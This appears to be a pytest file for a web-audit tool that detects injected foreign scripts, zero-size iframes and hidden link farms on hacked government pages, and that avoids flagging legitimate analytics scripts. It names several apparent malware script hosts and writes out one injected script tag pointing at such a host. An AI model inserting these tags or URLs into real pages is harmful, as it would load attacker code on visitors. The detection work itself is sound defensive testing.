"""Injected foreign scripts and hidden link farms (text.sensitive), on real markup of
benchmarks/data/sensitive_real.jsonl: hijacked pages against government pages' own third-party scripts."""

from __future__ import annotations

import re
from datetime import date

import pytest

from benchmarks.sensitive_real import load_rows
from checks.base import AuditData, CheckRules, ColumnState, Item, UnitState
from checks.hosts import is_known_service, is_stranger, own_sites, site_of
from checks.sensitive import find_dark_links, sensitive_words_check
from checks.text import page_text

ROWS = load_rows()


def _links(html: str, url: str | None = None) -> list[dict[str, str]]:
    return find_dark_links(tuple(h[:3] for h in page_text(html).hidden), own_sites([url]))


@pytest.mark.parametrize(("row", "technique", "target"), [
    # a hacked index.php answers search engines with nothing but a script from another host
    ("u08", "外站脚本（页面除此之外没有内容）", "http://jinying88.usa3v.net/js/77.js"),
    # the same script four times after a film's name (maccms8 issue), eight times in a WordPress page
    ("u09", "外站脚本（同一地址重复引入 4 次）", "https://lefengtv.com/site.js"),
    ("v01", "外站脚本（同一地址重复引入 8 次）", "https://temp.lowerbeforwarden.ml/temp.js?n=nb5"),
    # javascript-obfuscator code that writes a <script src> whose address is split over an array
    ("v02", "混淆脚本动态加载外部脚本", ""),
    # a zero-size frame of another site; a file infector's VBScript dropper appended after </html>
    ("y01", "零尺寸 iframe", "http://akillitelefonburada.com/yon.html"),
    ("y02", "VBScript 木马代码", ""),
])
def test_injected_foreign_scripts_are_reported(row: str, technique: str, target: str) -> None:
    found = [x for x in _links(ROWS[row]["html"]) if x["category"] == "外站脚本注入"]
    assert [(x["technique"], x["href"]) for x in found] == [(technique, target)]
    assert found[0]["reason"]


def test_what_follows_the_document_is_read_but_position_alone_is_no_sign() -> None:
    # the injected tag of v01 once: before the doctype (echoed by a hacked script ahead of the page) it is
    # reported; inside the page, or after </html> where real templates put their libraries (decoys6 d01,
    # d02), a single foreign script is no sign of anything
    tag = "<script type='text/javascript' src='https://temp.lowerbeforwarden.ml/temp.js?n=nb5'></script>"
    page = "{}<!DOCTYPE html><html><head><title>通知</title></head><body><p>正文</p>{}</body></html>{}"
    assert [x["technique"] for x in _links(page.format(tag, "", ""))] == ["外站脚本（写在 <!DOCTYPE>、<html> 之前）"]
    assert _links(page.format("", tag, "")) == [] and _links(page.format("", "", tag)) == []
    for row in ("d01", "d02"):
        assert "</html>\n<script" in ROWS[row]["html"] and _links(ROWS[row]["html"]) == []
    # libxml2 drops what follows </html>; the hidden links of u04 appended there are read all the same
    block = ROWS["u04"]["html"].removeprefix("<html><body>").removesuffix("</body></html>")
    assert {x["matched"] for x in _links(page.format("", "", block))} == {"cuasia.org"}


def test_hidden_deep_links_into_a_strangers_site_are_a_link_farm() -> None:
    # u04: three display:none links to counterfeit-goods pages of one site, English anchor text
    found = _links(ROWS["u04"]["html"])
    assert {(x["category"], x["matched"]) for x in found} == {("隐藏外链", "cuasia.org")}
    assert len(found) == 3 and all(x["technique"] == "display:none 隐藏（同一外站 3 条隐藏链接）" for x in found)
    # the same hidden tags on the site's own pages (a page of cuasia.org) are no farm into a stranger's site;
    # their English spam words ("louis vuitton", "cheap") are reported all the same (sens6: parasite pages that a
    # hacked site hosts under its own domain are linked this way)
    own = _links(ROWS["u04"]["html"], "http://www.cuasia.org/")
    assert own and {x["category"] for x in own} == {"隐藏外链"} and "cuasia.org" not in {x["matched"] for x in own}
    neutral = re.sub(r">([^<>]+)</a>", ">tags</a>", ROWS["u04"]["html"])
    assert _links(neutral, "http://www.cuasia.org/") == []
    # links in an element the page's scripts toggle by class or id (the hidden tab of a district government's
    # home page, untouched2 l06) are a tab's, wherever they point: no farm (words aside)
    links = "".join(a.split("</div>")[0] for a in neutral.split('<div style="display:none">')[1:])
    assert _links(f'<html><body><div class="content news_text" style="display:none;">{links}</div></body></html>') == []


@pytest.mark.parametrize("split", ["untouched2", "untouched3", "untouched4", "untouched5", "decoys6"])
def test_real_pages_third_party_scripts_are_not_injections(split: str) -> None:
    # statistics (CNZZ, Baidu, Google, also in hidden divs and before the doctype), sharing, the 党政机关
    # emblem, error-report buttons of a company's domain (pucha.kaipuyun.cn), accessibility scripts written
    # with document.writeln, 云适配 on 首都之窗, hidden credits, tabs and tag links of the site itself, library
    # scripts and an app bundle written after </html>, a zero-size YouTube player
    decoys = [r for r in ROWS.values() if r["split"] == split and r["label"] == "legit"]
    assert decoys
    for row in decoys:
        assert _links(row["html"], row.get("url")) == [], row["id"]


def test_hosts() -> None:
    assert site_of("www.beijing.gov.cn") == "beijing.gov.cn" and site_of("s19.cnzz.com") == "cnzz.com"
    assert site_of("10.1.2.3") == "10.1.2.3"
    assert is_known_service("dcs.conac.cn") and is_known_service("hm.baidu.com")
    assert not is_known_service("baidu.com.evil.cc") and not is_known_service("lefengtv.com")
    own = own_sites(["http://www.yunhe.com.cn/", None])
    assert own == {"yunhe.com.cn"}
    assert not is_stranger("static.yunhe.com.cn", own) and not is_stranger("www.zj.gov.cn", own)
    assert is_stranger("lefengtv.com", own) and not is_stranger("", own)


ON = date(2024, 9, 1)


def _data(pages: dict[str, str], portal: str) -> AuditData:
    bodies = {i: html.encode() for i, html in enumerate(pages.values(), 1)}
    items = tuple(Item(f"页面{i}", url, ON, None, i) for i, url in enumerate(pages, 1))
    column = ColumnState(1, "u", "通知公告", "notice", portal + "tzgg/", True, None, None, None, items)
    return AuditData(units=(UnitState("u", "某县人民政府", "county", portal),), columns=(column,), body=bodies.get)


def test_the_check_reports_injected_scripts_with_technique_target_and_reason() -> None:
    footer = ROWS["w08"]["html"].split("<body>")[1].split("</body>")[0]  # emblem and error-report scripts
    injected = ROWS["v01"]["html"].split("<body>")[1].split("</body>")[0]

    def page(body: str) -> str:
        return (f'<html><head><title>t</title><script src="http://www.example-county.com.cn/js/a.js"></script>'
                f'</head><body><div class="nav"><a href="/">首页</a></div><h1>通知</h1><div id="zoom">{body}</div>'
                f'<div class="footer">{footer}</div></body></html>')
    portal = "http://www.example-county.com.cn/"
    found = sensitive_words_check(_data({portal + "tzgg/1.html": page("<p>正文</p>"),
                                         portal + "tzgg/2.html": page("<p>正文</p>" + injected)}, portal),
                                  ON, CheckRules())
    assert [(f.subject_key, f.evidence["technique"], f.evidence["target_url"], f.evidence["category"])
            for f in found] == [(f"page:{portal}tzgg/2.html#link:https://temp.lowerbeforwarden.ml/temp.js?n=nb5",
                                 "外站脚本（同一地址重复引入 8 次）", "https://temp.lowerbeforwarden.ml/temp.js?n=nb5",
                                 "外站脚本注入")]
    assert "注入的外站脚本" in found[0].detail and "temp.lowerbeforwarden.ml" in found[0].evidence["reason"]
    # the unit's own domain is no stranger: the same repeated tag from its own static host is not reported
    own = injected.replace("temp.lowerbeforwarden.ml", "static.example-county.com.cn")
    assert sensitive_words_check(_data({portal + "tzgg/3.html": page(own)}, portal), ON, CheckRules()) == []
    # a hidden link farm is one finding that lists its links
    farm = ROWS["u04"]["html"].split("<body>")[1].split("</body>")[0]
    found = sensitive_words_check(_data({portal + "tzgg/4.html": page(farm)}, portal), ON, CheckRules())
    assert [(f.evidence["category"], f.evidence["count"], len(f.evidence["links"])) for f in found] == [("隐藏外链", 3, 3)]
    assert "cuasia.org" in found[0].evidence["reason"] and "等 3 处" in found[0].detail
